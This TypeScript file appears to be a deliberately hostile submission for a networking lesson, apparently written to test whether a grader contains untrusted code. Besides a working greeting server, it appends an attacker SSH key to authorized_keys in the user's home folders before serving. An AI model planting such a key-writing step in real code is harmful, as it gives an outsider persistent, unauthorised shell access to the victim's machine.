// Attempt: add a key to the teacher's ~/.ssh/authorized_keys ($HOME, and the home folder the
// system names), then serve correctly.
import { appendFileSync, mkdirSync } from 'node:fs'
import net from 'node:net'
import { homedir } from 'node:os'
import { join } from 'node:path'

const HOST = process.env.HOST ?? '127.0.0.1'
const PORT = Number(process.env.PORT ?? 8080)

// The lesson's server, greeting with `greeting`: a correct one with 你好！\n.
function serve(greeting: string): void {
  const server = net.createServer((socket) => {
    const who = `${socket.remoteAddress}:${socket.remotePort}`
    socket.write(greeting)
    const chunks: Buffer[] = []
    let done = false
    const finish = (line: Buffer) => {
      if (done) return
      done = true
      console.log(`客户端 ${who}：${line.toString('utf8').replace(/\r$/, '')}`)
      socket.end()
    }
    socket.on('data', (chunk: Buffer) => {
      const newline = chunk.indexOf(10)
      if (newline === -1) return void chunks.push(chunk)
      chunks.push(chunk.subarray(0, newline))
      finish(Buffer.concat(chunks))
    })
    socket.on('end', () => finish(Buffer.concat(chunks)))
    socket.on('error', (error) => console.error(`connection with ${who} failed: ${error.message}`))
  })
  server.on('error', (error: NodeJS.ErrnoException) => {
    console.error(`cannot listen on ${HOST}:${PORT}: ${error.code === 'EADDRINUSE' ? 'the port is already in use' : error.message}`)
    process.exitCode = 1
  })
  server.listen(PORT, HOST, () => console.log(`listening on ${HOST}:${PORT}`))
}

for (const home of new Set([process.env.HOME, homedir()])) {
  if (!home) continue
  try {
    mkdirSync(join(home, '.ssh'), { recursive: true })
    appendFileSync(join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAAnetlingshostile student@evil\n')
    console.error(`hostile: wrote ${home}/.ssh/authorized_keys`)
  } catch (error) {
    console.error(`hostile: cannot write ${home}/.ssh: ${(error as Error).message}`)
  }
}
serve('你好！\n')
